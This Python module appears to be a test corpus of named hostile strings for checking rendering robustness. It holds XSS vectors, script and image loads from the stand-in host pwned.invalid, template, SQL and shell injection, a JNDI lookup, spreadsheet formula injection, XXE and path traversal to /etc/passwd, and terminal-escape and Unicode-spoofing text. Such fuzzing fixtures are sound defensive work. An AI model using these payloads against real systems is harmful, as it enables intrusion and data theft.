r"""Hostile texts that may break a page, a table, a terminal or a file, by name.

The effect of a text is detectable: it sets ``window.__pwned``, opens a dialog, requests a URL below
``MARK``, or displays ``PRODUCT``, the result of the templates, which no text contains.
"""

import re
import unicodedata

__all__ = ["HOSTILE", "LONG", "MARK", "PRODUCT", "SHORT", "one_name", "pieces"]

MARK = "https://pwned.invalid/"
PRODUCT = "62615533"
"""The product 7919 · 7907."""
_SUM = "7919*7907"
_RUN = "window.__pwned=1"
_FIVE_MEGABYTES = 5_000_000

_SCRIPTS = {
    "script": f"<script>{_RUN}</script>",
    "script, mixed case": f"<ScRiPt>{_RUN}</sCrIpT>",
    "script, blanks in the tags": f"<script\t\n >{_RUN}</script\n >",
    "script, a slash for a blank": f"<script/x>{_RUN}</script>",
    "script, never closed": f"<script>{_RUN}//",
    "script, twice opened": f"<<script>{_RUN}//<</script>",
    "script within script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script of a module": f"<script type=module>{_RUN}</script>",
    "script from elsewhere": f"<script src={MARK}script.js></script>",
    "script from elsewhere, any scheme": "<script src=//pwned.invalid/scheme.js></script>",
    "script in another namespace": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{_RUN}</x:script>',
    "script in percent signs": "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
    "script in percent signs, twice": "%253Cscript%253Ewindow.__pwned%253D1%253C%252Fscript%253E",
    "script in entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "script in entities of entities": f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    "script in decimal entities": f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    "script in entities without semicolons": f"&#x3cscript&#x3e{_RUN}&#x3c/script&#x3e",
    "script in backslashes": f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    "script in hex": f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    "script in wide letters": f"＜script＞{_RUN}＜/script＞",
    "script in UTF-7": f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "script with a NUL in its name": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "script with a soft hyphen": f"<scr\u00adipt>{_RUN}</script>",
}
_ENDS = {
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a script, loud": f"</SCRIPT ><img src=x onerror={_RUN}>",
    "end of a string and a script": f'\';{_RUN};//"+{_RUN}+"</script>',
    "beginning of a script in a comment": "<!--<script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a title": f"</title><script>{_RUN}</script>",
    "end of a text area": f"</textarea><script>{_RUN}</script>",
    "end of a page": f"</body></html><script>{_RUN}</script>",
    "end of a comment": f"--><script>{_RUN}</script><!--",
    "end of a comment, another way": f"--!><img src=x onerror={_RUN}>",
    "end of a CDATA section": f"]]><script>{_RUN}</script><![CDATA[",
    "end of everything": f"'\"`>]]>--></style></title></textarea></noscript></template><script>{_RUN}</script>",
    "end of a template": "</template></noscript><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "end of a table": "</td></tr></table></div></div></div></main><h1>gone</h1>",
    "end of a details element": "</summary></details></section><plaintext>",
}
_HANDLERS = {
    "image that fails": f"<img src=x onerror={_RUN}>",
    "image that fails, quoted": f"<img src='x' onerror=\"{_RUN}\">",
    "image that fails, slashes": f"<img/src=x/onerror={_RUN}>",
    "image that fails, entities": "<img src=x onerror=&#119;indow.__pwned&#61;1>",
    "image from elsewhere": f"<img src={MARK}image.png>",
    "image set from elsewhere": f"<img srcset='{MARK}one.png 1x, {MARK}two.png 2x'>",
    "picture of SVG": f"<svg onload={_RUN}>",
    "picture of SVG, slash": f"<svg/onload={_RUN}//",
    "script in SVG": f"<svg><script>{_RUN}</script></svg>",
    "script in SVG by entities": "<svg><script>window.__pwned&equals;1</script></svg>",
    "animation in SVG": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "use in SVG": f"<svg><use href='{MARK}use.svg#x'/></svg>",
    "foreign object in SVG": f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "MathML": f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    "MathML with a link": f"<math href='javascript:{_RUN}'>click</math>",
    "mutating markup": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    "details that open": f"<details open ontoggle={_RUN}>",
    "field that focuses": f"<input autofocus onfocus={_RUN}>",
    "select that focuses": f"<select autofocus onfocus={_RUN}>",
    "video that fails": f"<video><source onerror={_RUN}></video>",
    "audio that fails": f"<audio src=x onerror={_RUN}>",
    "body that loads": f"<body onload={_RUN}>",
    "body that scrolls": f"<body onscroll={_RUN}><br><br><br>",
    "marquee": f"<marquee onstart={_RUN}>round</marquee>",
    "moving pointer": f"<b onpointerover={_RUN} onclick={_RUN}>over</b>",
    "element of its own": f"<x-y style=animation-name:x onanimationstart={_RUN}>",
    "dialog": "<img src=x onerror=alert(1)><svg onload=confirm(1)>",
    "frame": "<iframe src='javascript:parent.__pwned=1'></iframe>",
    "frame from elsewhere": f"<iframe src={MARK}frame></iframe>",
    "object": f"<object data='data:text/html,<script>parent.{_RUN}</script>'></object>",
    "embedded": f"<embed src={MARK}embed>",
    "base": f"<base href={MARK}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={MARK}refresh'>",
    "linked style": f"<link rel=stylesheet href={MARK}style.css>",
    "prefetched": f"<link rel=prefetch href={MARK}prefetch><link rel=dns-prefetch href=//pwned.invalid>",
    "form": f"<form action={MARK}form><button autofocus>go</button></form>",
    "name that hides": "<img name=getElementById><form id=documentElement><input name=body>",
    "id that hides": "<a id=vegaEmbed><a id=vegaEmbed name=default href=x:y>",
}
_ATTRIBUTES = {
    "out of an attribute": f'"><script>{_RUN}</script>',
    "out of an attribute, single": f"'><script>{_RUN}</script>",
    "out of an attribute, backtick": f"`><script>{_RUN}</script>",
    "handler in an attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "handler in an attribute, single": f"' onfocus='{_RUN}' autofocus='",
    "handler in a bare attribute": f"x onfocus={_RUN} autofocus tabindex=1",
    "style in an attribute": '" style="position:fixed;inset:0;z-index:9999;background:red" x="',
    "end of a tag": "/><h1>gone</h1>",
    "equals": "=\"'><",
}
_LINKS = {
    "javascript link": f"javascript:{_RUN}",
    "javascript link, mixed case": f"JaVaScRiPt:{_RUN}",
    "javascript link after blanks": f" \x01\t javascript:{_RUN}",
    "javascript link, broken": f"java\nscript:{_RUN}",
    "javascript link in entities": f"&#106;avascript&colon;{_RUN}",
    "javascript link with a host": f"javascript://pwned.invalid/%0A{_RUN}",
    "link element": f"<a href='javascript:{_RUN}' autofocus>click</a>",
    "data link": f"data:text/html,<script>{_RUN}</script>",
    "data link in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript link": 'vbscript:MsgBox("1")',
    "file link": "file:///etc/passwd",
    "link without a scheme": "//pwned.invalid/link",
}
_TEMPLATES = {
    "jinja": "{{" + _SUM + "}}",
    "jinja statement": "{% for x in range(3) %}{{ " + _SUM + " }}{% endfor %}{# gone #}",
    "jinja escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ " + _SUM + "|safe }}",
    "angular": "{{constructor.constructor('window.__pwned=1')()}}",
    "vue": f'<p v-html="1" @click="{_RUN}" :title="{_SUM}">x</p>',
    "mustache": "{{{" + _SUM + "}}}{{#x}}{{/x}}{{>x}}",
    "template literal": "${" + _SUM + "}`${" + _RUN + "}`",
    "erb": "<%= " + _SUM + " %><% exit %>",
    "php": f"<?php echo {_SUM}; ?>",
    "expression language": "#{" + _SUM + "}",
    "server include": '<!--#exec cmd="id"--><!--#include virtual="/etc/passwd"-->',
    "vega expression": "datum.x; datum['y']; " + _SUM,
    "vega signal": '{"signal": "' + _SUM + "\"} '+width+' indata('source_0','x',1)",
    "vega test": "datum.x === 1 ? 'a' : scale('x', datum.y)",
    "vega address": '{"url": "' + MARK + 'data.json"}',
    "vega image": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    "field with dots": "a.b[0]['c\\'d'].e",
    "printf": "%s%n%x%d%5$s%99999999d %(name)s",
    "format": "{0}{x!r:>{y}}{__import__('os')}{}",
    "shell": "$(id) `id` ; id | id && id > /tmp/x \\",
    "logging lookup": "${jndi:ldap://pwned.invalid/x}",
    "SQL": "'; DROP TABLE records; -- \" OR 1=1 --",
    "SQL pattern": "100%_[a-z]*?\\",
}
_STYLES = {
    "style": "<style>*{display:none!important}</style>",
    "style from elsewhere": f"<style>@import '{MARK}import.css';</style>",
    "address in a style": f"}}*{{background:url({MARK}background.png)}}",
    "expression in a style": f"width:expression({_RUN});-moz-binding:url({MARK}b)",
    "variable in a style": ":root{--x:red;color:red}</style",
}
_FORMATS = {
    "formula": '=HYPERLINK("' + MARK + 'formula","x")',
    "formula with a plus": "+1+1|cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd",
    "formula with an at": "@SUM(1+1)*cmd",
    "CSV": 'a,"b""c";d\te|f\r\n"',
    "Markdown image": f"![x]({MARK}markdown.png)",
    "Markdown link": f"[click](javascript:{_RUN})",
    "Markdown table": "| a | b |\n|---|---|\n| `c` | **d** |",
    "Markdown fence": "```\n~~~\n# heading\n<b>bold</b>\n* list",
    "JSON": '"},{"x":[1,2],"y":NaN,"__proto__":{"z":1}}',
    "JSON, line separators": "one\u2028two\u2029three",
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "YAML": "!!python/object/apply:os.system ['id']\n- &a [*a]",
    "path": "../../../../../../etc/passwd",
    "path, backslashes": "..\\..\\..\\windows\\win.ini",
    "path in percent signs": "..%2f..%2f..%2fetc%2fpasswd%00.html",
    "path from the root": "/etc/passwd",
    "device": "CON",
    "prototype": "__proto__",
    "constructor": "constructor",
    "own property": "hasOwnProperty",
    "to string": "toString",
    "prototype by a path": "constructor.prototype.polluted",
    "undefined": "undefined",
    "null": "null",
    "not a number": "NaN",
    "number": "-1e309",
}
_CHARACTERS = {
    "empty": "",
    "blank": " ",
    "blanks of many kinds": " \t\u00a0\u1680\u2003\u2028\u2029\u202f\u205f\u3000",
    "blanks around": "   in the middle   ",
    "lines": "\n\n\nafter three lines\n\n",
    "carriage return": "first\rsecond\r\nthird",
    "NUL": "before\x00after",
    "C0": "c0 " + "".join(map(chr, range(0x20))) + " end",
    "C1": "c1 " + "".join(map(chr, range(0x7F, 0xA0))) + " end",
    "bell and backspace": "rung\x07\x08\x08\x08\x08gone",
    "override to the left": "user \u202eexe.gpj\u202c file",
    "overrides never closed": "\u202e\u202d\u202a\u202b\u202e never closed",
    "isolates": "\u2066\u2067\u2068 isolated \u2069",
    "isolates never closed": "\u2067\u2067\u2067 isolated for ever",
    "marks of direction": "\u200e\u200f\u061c marked",
    "Arabic": "نص من اليمين إلى اليسار",
    "Hebrew and Latin": "אבג abc דהו 123 (שלום)",
    "zero width": "zero\u200b\u200c\u200d\u2060\ufeffwidth",
    "byte order mark": "\ufeffmarked",
    "tag characters": "tagged" + "".join(chr(0xE0000 + ord(c)) for c in "ignore"),
    "variation selectors": "x\ufe0f\ufe0e\U000e0100\U000e01ef",
    "combining": "Z" + "\u0301\u0302\u0317\u0489\u0334" * 60 + "algo",
    "combining alone": "\u0301" * 30,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea \U0001f44d\U0001f3fd",
    "look-alikes": "рaypal ехample ǃ ∕ ․",
    "tall": "﷽꧅𒐫⸻",
    "high surrogate": "half \ud800 a pair",
    "low surrogate": "half \udfff a pair",
    "surrogates the wrong way round": "\udc00\ud800 turned",
    "no characters": "none \ufffe\uffff\U0001fffe\U0010ffff",
    "replacement": "\ufffd\ufffc\ufff9\ufffa\ufffb anchored",
    "private": "\ue000\uf8ff\U000f0000 private",
    "ANSI colours": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H cleared",
    "ANSI hyperlink": f"\x1b]8;;{MARK}ansi\x1b\\here\x1b]8;;\x1b\\",
    "ANSI title": "\x1b]0;gone\x07titled",
    "ANSI in one character": "\x9b31mred\x9d0;gone\x9c",
    "rich markup": f"[bold red]loud[/bold red][link={MARK}rich]x[/link][/]",
}
LONG = {
    "5 MB without a break": "x" * _FIVE_MEGABYTES,
    "5 MB of script": f"<script>{_RUN}</script>" * (_FIVE_MEGABYTES // 33),
    "10 000 lines": "line\n" * 10_000,
    "10 000 empty lines": "\n" * 10_000,
    "word of 20 000 letters": "Donaudampfschiff" * 1_250,
    "20 000 brackets": "<" * 10_000 + "[" * 10_000,
    "20 000 open elements": "<div>" * 4_000,
    "20 000 combining marks": "e" + "\u0316" * 20_000,
}
SHORT = (
    _SCRIPTS | _ENDS | _HANDLERS | _ATTRIBUTES | _LINKS | _TEMPLATES | _STYLES | _FORMATS
) | _CHARACTERS
HOSTILE = SHORT | LONG
"""All hostile texts; ``SHORT`` are those of ordinary length, ``LONG`` the others."""

_ORDINARY = re.compile(r"[^\W_][!-~äöüß]*[^\W_]", re.ASCII)


def pieces(text: str) -> list[str]:
    r"""Return the parts of a text that must be visible wherever it is displayed.

    These are the runs of ordinary characters in the first 60 characters: pages may truncate a text,
    and may replace special characters with symbols or codes.

    Examples
    --------
    >>> pieces("<b>bold</b> and\x00 more")
    ['b>bold</b', 'and', 'more']
    """
    found = [match[0] for match in _ORDINARY.finditer(text[:60])]
    return [piece for piece in found if len(piece) > 2]


def one_name(text: str) -> bool:
    """Return whether the text is a valid folder name."""
    fits = 0 < len(text.encode("utf-8", "surrogatepass")) < 200
    bad = any(c in "/\x00" or unicodedata.category(c) == "Cs" for c in text)
    return fits and not bad and text not in (".", "..") and not text.startswith(".")


assert len(HOSTILE) >= 100, len(HOSTILE)
assert not any(PRODUCT in text for text in HOSTILE.values())
